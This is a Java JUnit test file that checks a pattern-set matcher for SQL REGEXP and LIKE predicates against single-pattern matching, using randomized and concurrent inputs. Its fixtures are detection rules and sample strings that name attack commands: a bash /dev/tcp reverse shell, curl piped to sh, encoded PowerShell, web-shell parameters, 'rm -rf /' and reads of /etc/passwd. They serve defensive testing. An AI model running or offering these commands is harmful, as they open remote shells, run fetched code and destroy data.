package dev.rsql.planner.functions;

import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.regex.Pattern;
import java.util.regex.PatternSyntaxException;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;

/**
 * A {@link PatternSet} answers exactly as each of its patterns alone ({@link Matcher#find()} for REGEXP,
 * {@link LikeMatcher} for LIKE) on randomized patterns and strings, whatever order and threads ask.
 */
class PatternSetTest {

    private static final String ALPHABET = "aAbBcCxX .-/%_1\n\u00e9\u00c9";
    private static final String[] RULE_REGEXES = {
            "(?i)union(\\s|%20|\\+)+select", "bash\\s+-i\\s+>&\\s*/dev/tcp/[0-9.]+/[0-9]+",
            "(?i)<script[^>]*>|javascript:|onerror=", "(curl|wget)\\s[^|;]*\\|\\s*(ba)?sh",
            "(?i)powershell(\\.exe)?\\s.*-(e|enc|encodedcommand)\\s", "\\.(php|aspx?|jsp)\\?([^#]*&)?(cmd|exec|command)=",
            "^(45\\.155\\.205|91\\.241\\.19|194\\.26\\.29)\\.[0-9]+$", "rm\\s+-rf\\s+/(\\s|$)",
            "(?i)(nmap|nikto|sqlmap|dirbuster|gobuster|wpscan|masscan|zgrab|nuclei)"};

    /** Random regular expressions built from the constructs the literal reader handles and some it refuses. */
    private static String randomRegex(Random r, int depth) {
        StringBuilder b = new StringBuilder();
        int atoms = 1 + r.nextInt(4);
        for (int a = 0; a < atoms; a++) {
            int kind = r.nextInt(depth > 2 ? 12 : 18);
            switch (kind) {
                case 0: b.append("[a-c]"); break;
                case 1: b.append("[^b\\s]"); break;
                case 2: b.append("\\s"); break;
                case 3: b.append('.'); break;
                case 4: b.append(r.nextBoolean() ? "^" : "$"); break;
                case 5: b.append("\\b"); break;
                case 6: b.append("\\").append(".-/%".charAt(r.nextInt(4))); break;
                case 7: b.append("\\d"); break;
                case 12: b.append('(').append(randomRegex(r, depth + 1)).append(')'); break;
                case 13: b.append("(?:").append(randomRegex(r, depth + 1)).append('|')
                        .append(randomRegex(r, depth + 1)).append(')'); break;
                case 14: b.append("(?=").append(randomRegex(r, depth + 1)).append(')'); break;
                case 15: b.append("(?<!x)"); break;
                case 16: b.append("(a|)"); break;
                case 17: b.append("\\Qa.\\E"); break;
                default:
                    char c = ALPHABET.charAt(r.nextInt(ALPHABET.length()));
                    b.append(c == '\n' ? "\\n" : String.valueOf(c));
            }
            boolean group = kind >= 12 && kind <= 14;
            switch (r.nextInt(10)) {
                // no unbounded repetition of a group: nested ones backtrack for ever on a miss
                case 0: b.append(group ? "?" : "*"); break;
                case 1: b.append(group ? "{1,2}" : "+"); break;
                case 2: b.append('?'); break;
                case 3: b.append("{0,2}"); break;
                case 4: b.append("{2}").append(r.nextBoolean() ? "?" : ""); break;
                default:
            }
        }
        if (depth == 0 && r.nextInt(4) == 0) {
            b.append('|').append(randomRegex(r, 1));
        }
        return depth == 0 && r.nextInt(3) == 0 ? "(?i)" + b : b.toString();
    }

    private static String randomLike(Random r) {
        StringBuilder b = new StringBuilder();
        int n = r.nextInt(6);
        for (int i = 0; i < n; i++) {
            int k = r.nextInt(8);
            b.append(k == 0 ? '%' : k == 1 ? '_' : ALPHABET.charAt(r.nextInt(ALPHABET.length())));
        }
        return r.nextBoolean() ? "%" + b + "%" : b.toString();
    }

    private static String randomString(Random r, List<String> fragments) {
        StringBuilder b = new StringBuilder();
        int n = r.nextInt(14);
        for (int i = 0; i < n; i++) {
            if (r.nextInt(5) == 0) {
                b.append(fragments.get(r.nextInt(fragments.size())));
            } else {
                b.append(ALPHABET.charAt(r.nextInt(ALPHABET.length())));
            }
        }
        return b.toString();
    }

    /** A pattern and the answer of its single-pattern implementation. */
    private record Single(String pattern, boolean like) {
        boolean matches(String s) {
            return like ? LikeMatcher.compile(pattern, null).matches(s) : Pattern.compile(pattern).matcher(s).find();
        }
    }

    @Test
    void answersAsEachPatternAloneOnRandomPatternsAndStrings() throws Exception {
        Random r = new Random(20261201);
        for (int round = 0; round < 40; round++) {
            PatternSet.Builder builder = new PatternSet.Builder();
            List<Single> singles = new ArrayList<>();
            List<String> fragments = new ArrayList<>(List.of("select", "union", "NMAP", "/dev/tcp/1.2/3", "aB"));
            while (singles.size() < 5 + round) { // fewer and more LIKEs than PatternSet.Builder.SCANNED_LIKES
                boolean like = r.nextInt(3) == 0;
                String p = like ? randomLike(r) : randomRegex(r, 0);
                if (!like) {
                    try {
                        Pattern.compile(p);
                    } catch (PatternSyntaxException e) {
                        continue;
                    }
                }
                int index = like ? builder.addLike(p, null) : builder.addRegex(p);
                if (index == singles.size()) {
                    singles.add(new Single(p, like));
                    fragments.add(p.replaceAll("[\\\\()\\[\\]?*+{}|^$]", ""));
                }
            }
            for (String rule : RULE_REGEXES) {
                assertEquals(singles.size(), builder.addRegex(rule));
                singles.add(new Single(rule, false));
            }
            PatternSet set = builder.build();
            List<String> inputs = new ArrayList<>();
            for (int i = 0; i < 300; i++) {
                inputs.add(randomString(r, fragments));
            }
            inputs.addAll(List.of("x UNION%20select y", "bash -i >& /dev/tcp/10.0.0.1/4444", "<SCRIPT src=x>",
                    "curl http://x | sh", "POWERSHELL.exe -enc x ", "/a.php?x=1&cmd=id", "45.155.205.7", "rm -rf / ",
                    "Mozilla NiKtO", ""));
            long seed = r.nextLong();
            ExecutorService pool = Executors.newFixedThreadPool(2);
            try {
                List<Future<?>> runs = new ArrayList<>();
                for (int t = 0; t < 2; t++) {
                    long threadSeed = seed + t;
                    runs.add(pool.submit(() -> check(set, singles, inputs, new Random(threadSeed))));
                }
                for (Future<?> f : runs) {
                    f.get();
                }
            } finally {
                pool.shutdown();
            }
        }
    }

    /** Asks every pattern about every input, in random order, sometimes with a copy of the string. */
    private static void check(PatternSet set, List<Single> singles, List<String> inputs, Random r) {
        for (String input : inputs) {
            String s = r.nextInt(4) == 0 ? new String(input) : input;
            List<Integer> order = new ArrayList<>();
            for (int i = 0; i < singles.size(); i++) {
                order.add(i);
                order.add(i);
            }
            java.util.Collections.shuffle(order, r);
            for (int i : order) {
                assertEquals(singles.get(i).matches(s), set.matches(s, i),
                        () -> "pattern " + singles.get(i) + " on '" + s + "'");
            }
        }
    }

    /**
     * Values seen again, as other string objects, in runs of repeats and of new values (so that remembering pauses
     * and resumes), and values that differ only where the fingerprint does not look, get the answers of the patterns
     * alone.
     */
    @Test
    void rememberedScansAnswerAsScansDo() {
        List<String> likes = List.of("%/etc/passwd%", "%nmap%", "%bash%", "%| sh%", "%x%", "%mozilla%");
        PatternSet.Builder builder = new PatternSet.Builder().prefilterAll();
        List<Single> singles = new ArrayList<>();
        for (String like : likes) {
            builder.addLike(like, null);
            singles.add(new Single(like, true));
        }
        builder.addRegex("(?i)(nmap|nikto)");
        singles.add(new Single("(?i)(nmap|nikto)", false));
        PatternSet set = builder.build();
        Random r = new Random(20261206);
        List<String> pool = new ArrayList<>();
        String[] parts = {"Mozilla/5.0 ", "nmap ", "NIKTO", "cat /etc/passwd", "bash -c ", "| sh", "a", "b", " "};
        while (pool.size() < 300) {
            StringBuilder b = new StringBuilder();
            while (b.length() < 8 + r.nextInt(40)) {
                b.append(parts[r.nextInt(parts.length)]);
            }
            pool.add(b.toString());
        }
        // same length and the same characters where the fingerprint looks: only a comparison tells them apart
        for (String twin : List.of("aaaa/etc/passwd.bbbb", "aaaa/etc/passwx.bbbb", "aaaaxetc/passwd.bbbb")) {
            pool.add(twin);
        }
        int[] found = new int[set.literalCount()];
        for (int i = 0; i < 60_000; i++) {
            boolean repeats = (i / 5000) % 2 == 0;
            String s = new String(repeats ? pool.get(r.nextInt(pool.size())) : "u" + i + pool.get(r.nextInt(20)));
            for (int p = 0; p < singles.size(); p++) {
                int index = p;
                assertEquals(singles.get(p).matches(s), set.matches(s, p), () -> singles.get(index) + " on '" + s + "'");
            }
            int n = set.literalsIn(s, found);
            assertEquals(n, set.literalsIn(new String(s), found.clone()), s);
        }
    }

    @Test
    void readsTheLiteralsRulesRequire() {
        assertEquals(List.of("select"), RequiredLiterals.ofRegex("(?i)union(\\s|%20|\\+)+SELECT").literals());
        assertEquals(List.of("nmap", "nikto", "sqlmap"), RequiredLiterals.ofRegex("(?i)(nmap|NIKTO|sqlmap)").literals());
        assertEquals(List.of("<script", "javascript:", "onerror="),
                RequiredLiterals.ofRegex("(?i)<script[^>]*>|javascript:|onerror=").literals());
        assertEquals(List.of("/dev/tcp/"), RequiredLiterals.ofRegex("bash\\s+-i\\s+>&\\s*/dev/tcp/[0-9.]+/[0-9]+").literals());
        assertEquals(List.of("xab"), RequiredLiterals.ofRegex("xab+c?").literals());
        assertNull(RequiredLiterals.ofRegex("a*|b"));
        assertNull(RequiredLiterals.ofRegex("x(?i:ab)"));
        assertNull(RequiredLiterals.ofRegex("\\Qab\\E"));
        assertNotNull(RequiredLiterals.ofLike("%/etc/passwd%", null));
        assertEquals(List.of("c/passwd"), RequiredLiterals.ofLike("/e_c/passwd%", null).literals());
        assertNull(RequiredLiterals.ofLike("%_%", null));
    }
}
